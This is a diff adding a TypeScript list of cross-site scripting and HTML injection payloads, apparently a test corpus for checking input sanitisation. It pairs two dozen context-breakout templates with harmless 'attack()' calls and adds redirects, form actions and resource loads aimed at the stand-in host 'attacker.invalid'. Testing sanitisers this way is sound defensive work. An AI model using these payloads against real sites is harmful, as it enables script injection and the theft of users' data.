@@ -1,0 +1,45 @@
+/** Strings that break out of pages that trust them; each calls `attack()` or loads from `attacker.invalid` when it gets through. */
+const CALLS = ['attack()', 'attack`1`', 'window.attack()', "top['attack']()"];
+
+const HOLES: readonly ((call: string) => string)[] = [
+  (call) => `<script>${call}</script>`,
+  (call) => `</script><script>${call}</script>`,
+  (call) => `</style><script>${call}</script>`,
+  (call) => `</title><script>${call}</script>`,
+  (call) => `--><script>${call}</script>`,
+  (call) => `]]><script>${call}</script>`,
+  (call) => `<img src=x onerror=${call}>`,
+  (call) => `"><img src=x onerror="${call}">`,
+  (call) => `'><svg onload='${call}'>`,
+  (call) => `" onmouseover="${call}" autofocus onfocus="${call}" x="`,
+  (call) => `' onclick='${call}' x='`,
+  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+  (call) => `<details open ontoggle=${call}>`,
+  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
+  (call) => `<a href="javascript:${call}">x</a>`,
+  (call) => `javascript:${call}`,
+  (call) => `<math><mtext></p><style><!--</style><img title="--></style><img src=x onerror=${call}>">`,
+  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  (call) => `<template><script>${call}</script></template>`,
+  (call) => `<body onload=${call}>`,
+  (call) => `<video><source onerror=${call}></video>`,
+  (call) => `\u0000<script\u0000>${call}</script>`,
+  (call) => `\u2028${call}\u2029//`,
+  (call) => `&lt;script&gt;${call}&lt;/script&gt;&#60;script&#62;${call}`,
+];
+
+export const ATTACKS: readonly string[] = [
+  ...HOLES.flatMap((hole) => CALLS.map(hole)),
+  '<link rel=stylesheet href=https://attacker.invalid/x.css>',
+  '<style>@import "https://attacker.invalid/x.css";</style>',
+  '<meta http-equiv=refresh content="0;url=https://attacker.invalid">',
+  '<base href=https://attacker.invalid/>',
+  '<form action=https://attacker.invalid><button autofocus>x',
+  '<object data=https://attacker.invalid></object>',
+  '<embed src=https://attacker.invalid>',
+  '\u202eevil\u202d \u2066x\u2069',
+  'W'.repeat(20_000),
+  '{{constructor.constructor("attack()")()}}',
+  '$' + '{attack()}',
+  '\ud800 lone surrogate \udfff',
+];
